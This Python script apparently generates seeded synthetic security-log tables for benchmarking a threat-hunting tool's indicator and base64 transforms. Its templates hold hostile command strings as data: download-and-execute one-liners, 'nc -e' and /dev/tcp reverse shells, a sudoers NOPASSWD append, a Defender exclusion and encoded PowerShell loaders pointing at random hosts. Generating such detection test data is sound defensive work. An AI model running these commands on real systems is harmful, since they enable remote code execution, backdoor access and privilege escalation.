#!/usr/bin/env python3
"""Deterministic test data for the transform benchmark (`bench/transforms.py`).

Three tables, the same for the same arguments on every machine (one `random.Random(seed)`
per table, rows drawn one after another, so the first N rows of a large table are the
N-row table):

- `ioc_events(rows)`: command lines and log lines, about a third of them holding
  indicators (IPv4/IPv6, domains with real TLDs, URLs, some defanged, emails, MD5/SHA-1/
  SHA-256 hashes, `key=value` log fragments), the rest ordinary Windows and Linux commands;
- `base64_events(rows)`: command lines, about a fifth of them carrying encoded payloads
  (PowerShell `-EncodedCommand`, plain base64 of UTF-8 text, gzip + base64, nested base64);
- `process_events(rows)`: Windows 4688/4689 events from huntbook's own seeded generator.

Write them as Parquet files, for the CLI or another tool:

    .venv/bin/python bench/transform_data.py --rows 100000 --out /tmp/hb-data
"""

from __future__ import annotations

import argparse
import base64
import gzip
import pathlib
import random
from typing import Callable, Dict, List

import numpy as np
import pandas as pd

from huntbook._huntbook import generate_process_events
import pyarrow as pa

KINDS = ("ioc", "b64", "tree")
SEEDS = {"ioc": 1, "b64": 2, "tree": 42}

USERS = ["alice", "bob", "carol", "dave", "svc_backup", "admin", "jsmith", "mlopez", "root", "www-data"]
HOSTS = ["ws-0142", "ws-0877", "srv-db01", "srv-web02", "dc01", "laptop-kh3", "build-07", "jump01"]
WORDS = ["update", "cdn", "static", "mail", "secure", "login", "files", "portal", "api", "sync",
         "cloud", "data", "img", "docs", "support", "office", "online", "store", "track", "news"]
ORGS = ["contoso", "fabrikam", "northwind", "adatum", "litware", "tailspin", "wingtip", "proseware",
        "woodgrove", "fourthcoffee", "example", "acme", "globex", "initech", "umbrella", "vandelay"]
# Real TLDs, generic and country codes, including the cheap ones common in phishing.
TLDS = ["com", "net", "org", "io", "ru", "cn", "info", "xyz", "top", "co.uk", "de", "biz", "online",
        "site", "club", "su", "tk", "me", "co", "us", "fr", "nl", "br", "in"]
SERVICES = ["Schedule", "BITS", "wuauserv", "Dnscache", "EventLog", "WinRM", "Spooler", "LanmanServer"]
UNITS = ["nginx", "sshd", "cron", "docker", "postgresql", "rsyslog", "auditd", "containerd"]
FILES = ["report", "invoice", "setup", "update", "payload", "backup", "notes", "q3_results", "stage2"]


# ---------------------------------------------------------------------------- indicators

def ipv4(rng: random.Random) -> str:
    # Mostly public addresses, some private ones, as in real logs.
    if rng.random() < 0.25:
        return f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    return f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def ipv6(rng: random.Random) -> str:
    groups = [f"{rng.getrandbits(16):x}" for _ in range(8)]
    form = rng.randrange(3)
    if form == 0:
        return ":".join(groups)
    if form == 1:
        return f"2001:db8:{groups[0]}::{groups[1]}"
    return f"fe80::{groups[0]}:{groups[1]}:{groups[2]}:{groups[3]}"


def domain(rng: random.Random) -> str:
    name = rng.choice(ORGS) + (str(rng.randint(1, 99)) if rng.random() < 0.3 else "")
    if rng.random() < 0.5:
        name = f"{rng.choice(WORDS)}.{name}"
    return f"{name}.{rng.choice(TLDS)}"


def url(rng: random.Random) -> str:
    path = "/".join(rng.choice(WORDS) for _ in range(rng.randint(1, 3)))
    query = f"?id={rng.getrandbits(32):x}" if rng.random() < 0.4 else ""
    host = domain(rng) if rng.random() < 0.8 else ipv4(rng)
    return f"{rng.choice(['http', 'https'])}://{host}/{path}/{rng.choice(FILES)}.{rng.choice(['exe', 'ps1', 'sh', 'php', 'zip'])}{query}"


def defang(text: str) -> str:
    return text.replace("http", "hxxp").replace(".", "[.]")


def email(rng: random.Random) -> str:
    return f"{rng.choice(USERS).replace('_', '.')}{rng.randint(1, 999)}@{domain(rng)}"


def hex_hash(rng: random.Random, bits: int) -> str:
    return f"{rng.getrandbits(bits):0{bits // 4}x}"


def pid(rng: random.Random) -> int:
    return rng.randint(300, 65000)


# ------------------------------------------------------------------- ordinary commands

def ordinary_command(rng: random.Random) -> str:
    user, n = rng.choice(USERS), rng.randint(1, 9999)
    templates: List[Callable[[], str]] = [
        lambda: f"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {rng.choice(SERVICES)}",
        lambda: f'"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --renderer-client-id={n} --field-trial-handle={rng.getrandbits(20)},{rng.getrandbits(20)}',
        lambda: f"cmd.exe /c dir C:\\Users\\{user}\\Documents\\{rng.choice(FILES)} /s /b",
        lambda: "tasklist.exe /v /fo csv",
        lambda: "whoami.exe /all",
        lambda: f"net.exe user {user} /domain",
        lambda: f"reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {rng.choice(WORDS)}",
        lambda: f"schtasks.exe /query /tn \\Microsoft\\Windows\\{rng.choice(SERVICES)} /fo LIST",
        lambda: f"C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
        lambda: f"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\{rng.choice(FILES)}_{n}.docx\"",
        lambda: f"/usr/bin/python3 /opt/app/worker.py --queue {rng.choice(WORDS)} --workers {rng.randint(1, 16)}",
        lambda: f"ls -la /var/log/{rng.choice(UNITS)}",
        lambda: f"systemctl status {rng.choice(UNITS)}.service",
        lambda: f"grep -r {rng.choice(WORDS)} /etc/{rng.choice(UNITS)}",
        lambda: f"tar -czf /tmp/backup-{n}.tar.gz /home/{user}",
        lambda: f"ps -eo pid,ppid,cmd --sort=-%cpu | head -n {rng.randint(5, 50)}",
        lambda: f"sudo -u {user} /usr/bin/rsync -a /srv/{rng.choice(WORDS)}/ /mnt/backup/{rng.choice(WORDS)}/",
        lambda: f"/bin/bash -c 'find /home/{user} -name \"*.{rng.choice(['log', 'tmp', 'bak'])}\" -mtime +{rng.randint(1, 90)} -delete'",
        lambda: f"kubectl get pods -n {rng.choice(WORDS)} -o wide",
        lambda: f"git -C /srv/{rng.choice(WORDS)} pull --ff-only",
    ]
    return rng.choice(templates)()


# --------------------------------------------------------------- commands with indicators

def indicator_command(rng: random.Random) -> str:
    user, port = rng.choice(USERS), rng.choice([22, 80, 443, 445, 3389, 4444, 8080, 8443])
    templates: List[Callable[[], str]] = [
        lambda: f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url(rng)}')\"",
        lambda: f"curl -s {url(rng)} -o /tmp/.{rng.choice(FILES)}",
        lambda: f"wget -q {url(rng)} -O- | sh",
        lambda: f"certutil.exe -urlcache -split -f {url(rng)} C:\\Users\\Public\\{rng.choice(FILES)}.exe",
        lambda: f"ping -n 1 {ipv4(rng)}",
        lambda: f"nslookup {domain(rng)} {ipv4(rng)}",
        lambda: f"ssh {user}@{ipv4(rng)} -p {port}",
        lambda: f"netsh interface portproxy add v4tov4 listenport={port} connectaddress={ipv4(rng)} connectport={port}",
        lambda: f"ping6 -c 3 {ipv6(rng)}",
        lambda: f"Test-NetConnection -ComputerName {domain(rng)} -Port {port}",
        lambda: f"Get-FileHash C:\\Users\\{user}\\Downloads\\{rng.choice(FILES)}.exe  # expected {hex_hash(rng, 256)}",
        lambda: f"Invoke-Scan -Md5 {hex_hash(rng, 128)} -Sha1 {hex_hash(rng, 160)}",
        lambda: f"yara64.exe rules.yar C:\\Temp  sha256={hex_hash(rng, 256)} md5={hex_hash(rng, 128)}",
        lambda: (f"postfix/smtpd[{pid(rng)}]: NOQUEUE: reject: RCPT from unknown[{ipv4(rng)}]: 554 5.7.1 "
                 f"from=<{email(rng)}> to=<{email(rng)}> proto=ESMTP helo=<{domain(rng)}>"),
        lambda: f"sshd[{pid(rng)}]: Failed password for {user} from {ipv4(rng)} port {rng.randint(1024, 65535)} ssh2",
        lambda: f"action=allow src={ipv4(rng)} dst={ipv4(rng)} dport={port} url={url(rng)} user={email(rng)}",
        lambda: f"sendmail -f {email(rng)} {email(rng)} < /tmp/{rng.choice(FILES)}.txt",
        lambda: f"echo 'see {defang(url(rng))} and {defang(ipv4(rng))}' >> /tmp/notes.txt",
        lambda: f"mshta.exe {defang(url(rng))}",
        lambda: f"reported by {email(rng).replace('@', '[at]')} c2={defang(domain(rng))}",
        lambda: f"nc -e /bin/sh {ipv4(rng)} {port}",
        lambda: f"bitsadmin /transfer job{rng.randint(1, 99)} /download /priority high {url(rng)} C:\\Temp\\{rng.choice(FILES)}.exe",
    ]
    return rng.choice(templates)()


def ioc_events(rows: int, seed: int = SEEDS["ioc"]) -> pd.DataFrame:
    """Command and log lines; about 35% hold at least one indicator."""
    rng = random.Random(seed)
    lines = [indicator_command(rng) if rng.random() < 0.35 else ordinary_command(rng) for _ in range(rows)]
    return _events(seed, lines)


# ------------------------------------------------------------------------------ base64

def _script(rng: random.Random) -> str:
    templates: List[Callable[[], str]] = [
        lambda: f"IEX (New-Object Net.WebClient).DownloadString('{url(rng)}')",
        lambda: f"Start-Process C:\\Users\\Public\\{rng.choice(FILES)}.exe -ArgumentList '-s {rng.randint(1, 9999)}' -WindowStyle Hidden",
        lambda: f"Get-Process | Where-Object {{$_.CPU -gt {rng.randint(10, 500)}}} | Stop-Process -Force",
        lambda: f"$c=New-Object Net.Sockets.TCPClient('{ipv4(rng)}',{rng.choice([443, 4444, 8080])});$s=$c.GetStream()",
        lambda: f"Add-MpPreference -ExclusionPath C:\\Users\\{rng.choice(USERS)}\\AppData\\Local\\Temp",
        lambda: f"bash -i >& /dev/tcp/{ipv4(rng)}/{rng.choice([443, 4444, 9001])} 0>&1",
        lambda: f"curl -s {url(rng)} | sh; rm -f /tmp/.{rng.choice(FILES)}",
        lambda: f"echo '{rng.choice(USERS)} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ]
    return rng.choice(templates)()


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def encoded_command(rng: random.Random) -> str:
    kind = rng.randrange(4)
    script = _script(rng)
    if kind == 0:  # PowerShell's -EncodedCommand is base64 of UTF-16LE
        flag = rng.choice(["-EncodedCommand", "-enc", "-e", "-ec"])
        return f"powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden {flag} {_b64(script.encode('utf-16-le'))}"
    if kind == 1:  # plain base64 of UTF-8 text
        return f"/bin/sh -c \"echo {_b64(script.encode())} | base64 -d | bash\""
    if kind == 2:  # gzip + base64; mtime=0 so the bytes do not depend on the clock
        packed = _b64(gzip.compress(script.encode(), mtime=0))
        return ("powershell.exe -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("
                f"'{packed}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
                "$s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"")
    # nested: base64 of a command line that itself carries base64
    inner = f"powershell -enc {_b64(script.encode('utf-16-le'))}" if rng.random() < 0.5 else \
        f"echo {_b64(script.encode())} | base64 -d | sh"
    return f"python3 -c \"import base64,os;os.system(base64.b64decode('{_b64(inner.encode())}'))\""


def base64_events(rows: int, seed: int = SEEDS["b64"]) -> pd.DataFrame:
    """Command lines; about 20% carry an encoded payload."""
    rng = random.Random(seed)
    lines = [encoded_command(rng) if rng.random() < 0.2 else ordinary_command(rng) for _ in range(rows)]
    return _events(seed, lines)


def _events(seed: int, lines: List[str]) -> pd.DataFrame:
    # A few ordinary event columns besides the text, so that row-wise tools carry a
    # realistic row; times are a fixed start plus seeded gaps, not the clock. The gaps
    # have their own generator so that a shorter table stays a prefix of a longer one.
    rng = random.Random(seed + 1_000_003)
    start = np.datetime64("2024-06-01T00:00:00", "ms")
    gaps = np.array([rng.randint(1, 500) for _ in lines], dtype="int64").cumsum()
    return pd.DataFrame({
        "TimeGenerated": pd.to_datetime(start + gaps.astype("timedelta64[ms]"), utc=True),
        "Computer": [HOSTS[i % len(HOSTS)] for i in range(len(lines))],
        "Account": [USERS[(i * 7) % len(USERS)] for i in range(len(lines))],
        "CommandLine": lines,
    })


# ---------------------------------------------------------------------- process events

def process_events(rows: int, seed: int = SEEDS["tree"]) -> pd.DataFrame:
    """Exactly `rows` Windows 4688/4689 events on 4 hosts from huntbook's generator.

    The generator's count is of processes, most with a start and an exit event; its
    output for n processes begins with its output for fewer, so asking for a few more
    and cutting keeps the table a prefix of the larger ones.
    """
    processes = rows * 11 // 20 + 16
    while True:
        # Plain to_pandas: object text columns, as a table loaded with pandas 2 has them.
        frame = pa.record_batch(generate_process_events(processes, hosts=4, seed=seed)).to_pandas()
        if len(frame) >= rows:
            return frame.head(rows).reset_index(drop=True)
        processes *= 2


MAKERS: Dict[str, Callable[[int], pd.DataFrame]] = {
    "ioc": ioc_events,
    "b64": base64_events,
    "tree": process_events,
}


def make(kind: str, rows: int, seed: int | None = None) -> pd.DataFrame:
    """The `kind` table ("ioc", "b64" or "tree") with `rows` rows."""
    maker = MAKERS[kind]
    return maker(rows) if seed is None else maker(rows, seed)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rows", type=int, default=100_000, help="rows per table (default 100000)")
    parser.add_argument("--out", type=pathlib.Path, required=True, help="folder for <kind>_<rows>.parquet")
    parser.add_argument("--only", default=",".join(KINDS), help="comma-separated kinds (default ioc,b64,tree)")
    args = parser.parse_args()
    args.out.mkdir(parents=True, exist_ok=True)
    for kind in args.only.split(","):
        path = args.out / f"{kind}_{args.rows}.parquet"
        make(kind, args.rows).to_parquet(path, index=False)
        print(path)


if __name__ == "__main__":
    main()
